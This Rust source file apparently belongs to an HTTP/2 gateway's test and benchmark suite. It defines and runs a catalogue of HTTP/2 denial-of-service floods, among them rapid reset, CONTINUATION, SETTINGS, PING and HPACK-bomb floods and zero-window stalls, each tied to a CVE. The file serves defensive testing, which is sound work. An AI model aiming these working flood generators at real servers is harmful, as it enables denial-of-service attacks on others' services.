//! [`Flood`]: what hostile clients of HTTP/2 send over and over, and [`Flood::run`]: one connection of it. The black-box
//! tests hold the gateway to its answer, and `cargo xtask bench floods` prints what each costs beside other proxies.
//!
//! A flood goes on until the other side ends the connection, or a [`Bound`] is reached. What it says while nothing is
//! wrong is right: only the repetition is hostile.

use std::{cell::Cell, time::Duration};

use tokio::{
    io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _, ReadHalf, WriteHalf, split},
    time::{Instant, sleep, timeout, timeout_at},
};

use crate::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, PREFACE, PRIORITY, Received, SETTINGS,
    WHOLE, WITH_PRIORITY, frame, headers, literal, literal_as, opening, request, reset, settings, window_update,
};

/// SETTINGS_INITIAL_WINDOW_SIZE (RFC 9113 section 6.5.2).
const INITIAL_WINDOW: u16 = 4;
/// What is written at once, bytes.
const BATCH: usize = 4 * 1024;
/// And how long to listen then: otherwise much would be written, and counted, behind the end.
const PACE: Duration = Duration::from_millis(1);
/// No frame may be larger before the other side says so (RFC 9113 section 4.2).
const LARGEST_FRAME: usize = 16_384;
/// The payload of the PING behind everything: its answer says that all before it was read.
const BEHIND: [u8; 8] = *b"vestibul";
/// How long to wait for that answer.
const BEHIND_LIMIT: Duration = Duration::from_secs(2);

/// Frames of a class of attacks.
#[derive(Clone, Copy, Debug)]
pub struct Flood {
    /// As a command line names it.
    pub word: &'static str,
    /// Under which number it was met before.
    pub cve: &'static str,
    /// The client's first SETTINGS.
    settings: &'static [(u16, u32)],
    /// For a host: what comes once.
    once: fn(&str) -> Vec<u8>,
    /// What comes over and over, the number of the turn being told.
    turn: fn(&str, u32) -> Vec<u8>,
    /// Frames of a turn.
    frames: u64,
    /// How it goes on when all turns are said.
    then: Then,
}

/// How a flood goes on when all is said.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Then {
    /// It is over.
    Ends,
    /// After so many turns it says nothing more and stays.
    Stays(u32),
}

/// How far a flood goes if nothing ends it.
#[derive(Clone, Copy, Debug)]
pub struct Bound {
    /// Turns of one connection.
    pub turns: u32,
    /// How long one connection lasts.
    pub time: Duration,
}

/// What became of one connection.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Spent {
    /// Frames that were written before the end was seen.
    pub frames: u64,
    /// The code of the last GOAWAY.
    pub code: Option<u32>,
    /// When the other side ended the connection, counted from its first frame.
    pub closed: Option<Duration>,
}

/// A client's stream of that turn; the first one is kept for what comes once.
fn stream(turn: u32) -> u32 {
    2 * turn + 1
}

const PLAIN: Flood = Flood {
    word: "",
    cve: "",
    settings: &[],
    once: |_| Vec::new(),
    turn: |_, _| Vec::new(),
    frames: 1,
    then: Then::Ends,
};

/// More frames than anybody needs. The answer is ENHANCE_YOUR_CALM (RFC 9113 section 7).
pub const FRAMES: &[Flood] = &[
    Flood {
        word: "rapid-reset",
        cve: "CVE-2023-44487",
        turn: |host, turn| [headers(stream(turn), request("GET", host, "/")), reset(stream(turn), 8)].concat(),
        frames: 2,
        ..PLAIN
    },
    // Errors that make the other side reset the stream.
    Flood {
        word: "made-you-reset",
        cve: "CVE-2025-8671",
        turn: |host, turn| {
            [opening(stream(turn), request("POST", host, "/")), window_update(stream(turn), (1 << 31) - 1)].concat()
        },
        frames: 2,
        ..PLAIN
    },
    Flood {
        word: "continuation",
        cve: "CVE-2024-27316",
        once: |host| frame(HEADERS, 0, 1, request("GET", host, "/")),
        turn: |_, _| frame(CONTINUATION, 0, 1, b""),
        ..PLAIN
    },
    Flood {
        word: "continuation-fields",
        cve: "CVE-2024-28182",
        once: |host| frame(HEADERS, 0, 1, request("GET", host, "/")),
        turn: |_, turn| frame(CONTINUATION, 0, 1, literal(&format!("x-{turn}"), "1")),
        ..PLAIN
    },
    Flood { word: "settings", cve: "CVE-2019-9515", turn: |_, _| settings(&[(INITIAL_WINDOW, 65_535)]), ..PLAIN },
    Flood { word: "empty-settings", cve: "CVE-2019-9515", turn: |_, _| settings(&[]), ..PLAIN },
    Flood { word: "ping", cve: "CVE-2019-9512", turn: |_, _| frame(PING, 0, 0, [0; 8]), ..PLAIN },
    Flood {
        word: "priority",
        cve: "CVE-2019-9513",
        turn: |_, turn| frame(PRIORITY, 0, stream(turn), [0, 0, 0, 0, 1]),
        ..PLAIN
    },
    Flood {
        word: "empty-data",
        cve: "CVE-2019-9518",
        once: |host| opening(1, request("POST", host, "/")),
        turn: |_, _| frame(DATA, 0, 1, b""),
        ..PLAIN
    },
    Flood {
        word: "empty-headers",
        cve: "CVE-2019-9516",
        turn: |_, turn| frame(HEADERS, WHOLE | WITH_PRIORITY, stream(turn), [0, 0, 0, 0, 1]),
        ..PLAIN
    },
    Flood { word: "malformed-heads", turn: |_, turn| frame(HEADERS, WHOLE, stream(turn), b"\x82"), ..PLAIN },
    Flood { word: "window-update", turn: |_, _| window_update(0, 1), ..PLAIN },
    Flood {
        word: "stream-window-update",
        once: |host| opening(1, request("POST", host, "/")),
        turn: |_, _| window_update(1, 1),
        ..PLAIN
    },
    Flood { word: "unknown-frames", turn: |_, _| frame(0x7f, 0, 0, b""), ..PLAIN },
    Flood {
        word: "data-dribble",
        cve: "CVE-2019-9511",
        settings: &[(INITIAL_WINDOW, 0)],
        once: |host| headers(1, request("GET", host, "/bytes/1048576")),
        turn: |_, _| window_update(1, 1),
        ..PLAIN
    },
    Flood {
        word: "hpack-sizes",
        turn: |host, turn| {
            let sizes = b"\x20\x3f\xe1\x1f".repeat(4_000); // 0 and 4,096 in turn
            headers(stream(turn), [sizes, request("GET", host, "/")].concat())
        },
        ..PLAIN
    },
];

/// Heads that cost more to read than to write, and answers that are not read.
pub const WEIGHTS: &[Flood] = &[
    // A field of the dynamic table, referred to as often as a frame holds.
    Flood {
        word: "hpack-references",
        cve: "CVE-2016-6581",
        once: |host| headers(1, [request("GET", host, "/"), literal_as(0x40, "x-bomb", &"b".repeat(3_900))].concat()),
        turn: |host, turn| {
            let head = request("GET", host, "/");
            let references = vec![0xbe; LARGEST_FRAME - head.len()];
            headers(stream(turn), [head, references].concat())
        },
        ..PLAIN
    },
    // 320 KiB each.
    Flood {
        word: "large-heads",
        turn: |host, turn| {
            let first = frame(HEADERS, END_STREAM, stream(turn), request("GET", host, "/"));
            let part = frame(CONTINUATION, 0, stream(turn), literal("x-large", &"l".repeat(16_000)));
            let last = frame(CONTINUATION, END_HEADERS, stream(turn), b"");
            [first, part.repeat(20), last].concat()
        },
        frames: 22,
        ..PLAIN
    },
    Flood {
        word: "shut-windows",
        cve: "CVE-2019-9517",
        settings: &[(INITIAL_WINDOW, 0)],
        turn: |host, turn| headers(stream(turn), request("GET", host, "/bytes/1048576")),
        then: Then::Stays(100),
        ..PLAIN
    },
];

impl Flood {
    /// Does it hold what it has, rather than send on?
    pub fn stays(&self) -> bool {
        self.then != Then::Ends
    }

    /// One connection, over a stream that speaks `h2`, until the other side ends it or the bound is reached.
    pub async fn run<S: AsyncRead + AsyncWrite>(&self, io: S, host: &str, bound: Bound) -> Spent {
        let (reader, writer) = split(io);
        let began = Instant::now();
        let (frames, behind) = (Cell::new(0), Cell::new(false));
        let mut code = None;
        let listened = {
            let listen = listen(reader, &mut code, &behind);
            tokio::pin!(listen);
            let said = timeout_at(began + bound.time, self.say(writer, host, bound, &frames));
            tokio::select! {
                () = &mut listen => true,
                said = said => match said {
                    // It takes no more, or all was said: what was said is still to be read.
                    Ok(rest) => timeout(self.patience(began, bound), async { listen.await; drop(rest) }).await.is_ok(),
                    Err(_) => false,
                },
            }
        };
        let closed = (listened && !behind.get()).then(|| began.elapsed());
        Spent { frames: frames.get(), code, closed }
    }

    /// How long to listen when all is said.
    fn patience(&self, began: Instant, bound: Bound) -> Duration {
        if self.stays() { bound.time.saturating_sub(began.elapsed()) } else { BEHIND_LIMIT }
    }

    /// Says it turn by turn; gives the writing half, which would otherwise end the connection.
    async fn say<W: AsyncWrite>(
        &self,
        mut writer: WriteHalf<W>,
        host: &str,
        bound: Bound,
        frames: &Cell<u64>,
    ) -> WriteHalf<W> {
        let hello = [PREFACE, &settings(self.settings), &frame(SETTINGS, ACK, 0, []), &(self.once)(host)].concat();
        let turns = match self.then {
            Then::Ends => bound.turns,
            Then::Stays(turns) => turns.min(bound.turns),
        };
        let (mut bytes, mut ready) = (hello, 0);
        for turn in 1..=turns {
            bytes.extend((self.turn)(host, turn));
            ready += self.frames;
            if bytes.len() < BATCH && turn < turns {
                continue;
            }
            if writer.write_all(&bytes).await.is_err() || writer.flush().await.is_err() {
                return writer;
            }
            frames.set(frames.get() + ready);
            (bytes, ready) = (Vec::new(), 0);
            sleep(PACE).await;
        }
        if !self.stays() {
            // An error is the end, which the other half sees too.
            let _ = writer.write_all(&frame(PING, 0, 0, BEHIND)).await;
            let _ = writer.flush().await;
        }
        writer
    }
}

/// Reads until the other side ends the connection, or all that was said has been read.
async fn listen<R: AsyncRead>(mut reader: ReadHalf<R>, code: &mut Option<u32>, behind: &Cell<bool>) {
    let mut held = Vec::new();
    while let Ok(1..) = reader.read_buf(&mut held).await {
        while let Some(frame) = Received::take(&mut held) {
            match frame.kind {
                GOAWAY => *code = Some(frame.number(4)),
                PING if frame.flags & ACK != 0 && frame.payload == BEHIND => return behind.set(true),
                _ => {}
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use tokio::io::duplex;

    use super::*;

    fn all() -> impl Iterator<Item = &'static Flood> {
        FRAMES.iter().chain(WEIGHTS)
    }

    /// What comes once, and the first turns, cut into frames.
    fn said(flood: &Flood, turns: u32) -> Vec<Received> {
        let mut bytes: Vec<u8> = (1..=turns).flat_map(|turn| (flood.turn)("a.test", turn)).collect();
        std::iter::from_fn(|| Received::take(&mut bytes)).collect()
    }

    #[test]
    fn words_are_told_apart_and_frames_are_counted_right() {
        let words: HashSet<_> = all().map(|flood| flood.word).collect();
        assert_eq!(words.len(), FRAMES.len() + WEIGHTS.len());
        for flood in all() {
            let frames = said(flood, 3);
            assert_eq!(frames.len() as u64, 3 * flood.frames, "{}", flood.word);
            assert!(frames.iter().all(|frame| frame.payload.len() <= LARGEST_FRAME), "{}", flood.word);
        }
    }

    #[tokio::test]
    async fn a_flood_ends_with_the_other_side_or_its_bound() {
        let ping = all().find(|flood| flood.word == "ping").unwrap();
        let bound = Bound { turns: 1_000, time: Duration::from_secs(20) };
        // Reads a part, says GOAWAY and ends.
        let (ours, mut theirs) = duplex(1 << 20);
        let (spent, ()) = tokio::join!(ping.run(ours, "a.test", bound), async move {
            theirs.read_exact(&mut [0; 1_000]).await.unwrap();
            theirs.write_all(&frame(GOAWAY, 0, 0, [0, 0, 0, 0, 0, 0, 0, 11])).await.unwrap();
        });
        assert_eq!((spent.code, spent.closed.is_some()), (Some(11), true));
        // Reads everything and answers the last word.
        let (ours, theirs) = duplex(1 << 20);
        let (mut reading, mut writing) = split(theirs);
        let (spent, ()) = tokio::join!(ping.run(ours, "a.test", bound), async move {
            let mut held = vec![0; PREFACE.len()];
            reading.read_exact(&mut held).await.unwrap();
            held.clear();
            loop {
                reading.read_buf(&mut held).await.unwrap();
                while let Some(frame) = Received::take(&mut held) {
                    if frame.payload == BEHIND {
                        writing.write_all(&crate::frames::frame(PING, ACK, 0, BEHIND)).await.unwrap();
                        return;
                    }
                }
            }
        });
        assert_eq!(spent, Spent { frames: 1_000, code: None, closed: None });
    }
}
